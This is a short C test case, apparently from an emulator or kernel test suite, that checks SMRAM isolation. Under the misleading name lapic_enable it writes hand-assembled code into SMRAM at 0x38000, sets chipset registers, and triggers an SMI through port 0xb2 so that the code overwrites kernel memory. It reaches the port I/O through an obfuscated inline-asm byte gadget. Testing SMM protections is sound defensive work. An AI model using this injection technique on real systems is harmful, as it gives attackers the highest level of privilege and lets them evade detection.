/* expect: finished tick-limit modified panic
 * Puts code into what will be SMRAM that writes over the kernel, and enters. */
static void __attribute__((noinline, used)) gadget(void)
{
    __asm__ volatile(".byte 0xb8, 0xef, 0xc3, 0x90, 0x90");
}

static void outl(uint16_t port, uint32_t value)
{
    uint8_t *at = (uint8_t *)(uintptr_t)gadget;

    while (at[0] != 0xef || at[1] != 0xc3)
        at++;
    __asm__ volatile("call *%2" : : "a"(value), "d"(port), "r"(at) : "memory");
}

void lapic_enable(uint8_t spurious_vector)
{
    /* mov ebx, AT_mark_from; mov byte [ebx], 0xc3; rsm, of 16 bits */
    static const uint8_t code[] = {0x66,
                                   0xbb,
                                   (uint8_t)AT_mark_from,
                                   (uint8_t)(AT_mark_from >> 8),
                                   (uint8_t)(AT_mark_from >> 16),
                                   0,
                                   0x67,
                                   0xc6,
                                   0x03,
                                   0xc3,
                                   0x0f,
                                   0xaa};
    volatile uint8_t *at = (volatile uint8_t *)0x38000;

    (void)spurious_vector;
    for (size_t i = 0; i < sizeof code; i++)
        at[i] = code[i];
    outl(0xcf8, 0x8000f840);
    outl(0xcfc, 0x601);
    outl(0xcf8, 0x8000f844);
    outl(0xcfc, 0x80);
    outl(0x630, 0x21);
    outb(0xb2, 0);
}
